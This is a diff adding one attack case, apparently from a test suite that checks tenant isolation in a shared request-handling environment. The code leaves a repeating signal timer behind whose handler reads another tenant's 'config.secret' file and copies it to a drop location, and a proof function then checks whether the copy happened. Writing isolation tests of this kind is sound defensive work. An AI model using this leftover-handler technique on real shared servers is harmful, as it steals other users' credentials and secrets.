@@ -1,0 +1,36 @@
+"""Leave a timer whose signal handler runs amid the next tenant's request."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from workloads.attacks.scene import Given, Scene
+
+
+def attack(given: Given) -> object:
+    import signal
+
+    drop, real = given.drop, open
+
+    def steal(*_: object) -> None:
+        try:
+            with real("config.secret") as file, real(f"{drop}/copy", "w") as copy:
+                copy.write(file.read())
+        except OSError:
+            pass
+
+    signal.signal(signal.SIGVTALRM, steal)
+    signal.setitimer(signal.ITIMER_VIRTUAL, 0.05, 0.02)
+    return "waiting"
+
+
+def proof(scene: Scene) -> str | None:
+    scene.put(
+        "busy.py",
+        "import time\nend = time.monotonic() + 0.3\n"
+        "while time.monotonic() < end:\n    pass\n"
+        "print('Content-Type: text/plain\\n\\nbusy')\n",
+    )
+    scene.visit("busy.py")
+    return scene.stolen(scene.secret, "what a handler read in the neighbour's request")
